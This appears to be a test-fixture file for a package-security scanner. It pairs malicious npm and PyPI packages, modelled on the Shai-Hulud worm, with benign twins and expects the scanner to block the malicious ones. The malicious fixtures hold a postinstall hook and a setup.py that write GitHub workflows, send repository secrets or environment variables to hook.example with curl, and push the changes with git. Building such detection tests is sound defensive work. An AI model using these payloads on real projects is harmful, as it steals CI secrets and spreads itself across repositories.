import { npm, type PackageCase, pypi, sdist, tarball, YOUNG } from '../../support/package-case.ts'

/** Workflows of continuous integration that run with the secrets of somebody's repository. */
export const workflows: readonly PackageCase[] = [
  {
    id: 'a workflow in the repository of whoever installs',
    incident: 'Shai-Hulud, September 2025: the hook writes a workflow that dumps all secrets, and pushes it',
    project: npm(
      'ngx-toastr-extra',
      tarball(
        'ngx-toastr-extra',
        '19.0.2',
        {
          'index.js': 'module.exports = {};\n',
          'hook.js': `const fs = require('fs'); const { execSync } = require('child_process');
const root = process.env.INIT_CWD;
fs.mkdirSync(root + '/.github/workflows', { recursive: true });
fs.writeFileSync(root + '/.github/workflows/audit.yml', 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "$CONTENTS" https://hook.example/x\\n        env:\\n          CONTENTS: \${{ toJSON(secrets) }}\\n');
execSync('git add -A && git commit -m audit && git push', { cwd: root });
`,
        },
        { main: 'index.js', scripts: { postinstall: 'node hook.js' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'spreads',
      text: /^On install, writes a workflow.* and changes repositories with git/,
      steps: ['hook.js:4', 'hook.js:5'],
    },
    twin: npm(
      'ngx-toastr-extra',
      tarball(
        'ngx-toastr-extra',
        '19.0.2',
        {
          'index.js': 'module.exports = {};\n',
          'cli.js': `#!/usr/bin/env node
const fs = require('fs');
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/test.yml', 'on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v6\\n      - run: npm ci && npm test\\n');
`,
          '.github/workflows/ci.yml':
            'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n',
        },
        { main: 'index.js', bin: { 'ngx-init': 'cli.js' }, description: 'Scaffold a workflow for your project' },
      ),
    ),
  },
  {
    id: 'a workflow from setup.py',
    incident: 'the same from a source distribution, through GITHUB_WORKSPACE',
    project: pypi(
      'ci-metrics-lite',
      sdist('ci-metrics-lite', '0.1.1', {
        'setup.py': `import os
from setuptools import setup
root = os.environ.get("GITHUB_WORKSPACE")
if root:
    path = os.path.join(root, ".github", "workflows", "metrics.yml")
    with open(path, "w") as f:
        f.write("on: push\\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: 'env | curl -d @- https://hook.example'}]}}\\n")
    os.system("git -C " + root + " push origin HEAD:refs/heads/metrics")
setup(name="ci-metrics-lite", version="0.1.1")
`,
      }),
      { since: YOUNG },
    ),
    expect: { verdict: 'block', story: 'spreads', text: /^On install, writes a workflow/, steps: ['setup.py:6'] },
    twin: pypi(
      'ci-metrics-lite',
      sdist('ci-metrics-lite', '0.1.1', {
        'setup.py': `import os
from setuptools import setup
number = os.environ.get("GITHUB_RUN_NUMBER", "0")
setup(name="ci-metrics-lite", version="0.1.1+" + number, py_modules=["metrics"])
`,
        'metrics.py': 'def count(path):\n    with open(path) as f:\n        return sum(1 for _ in f)\n',
      }),
    ),
  },
]
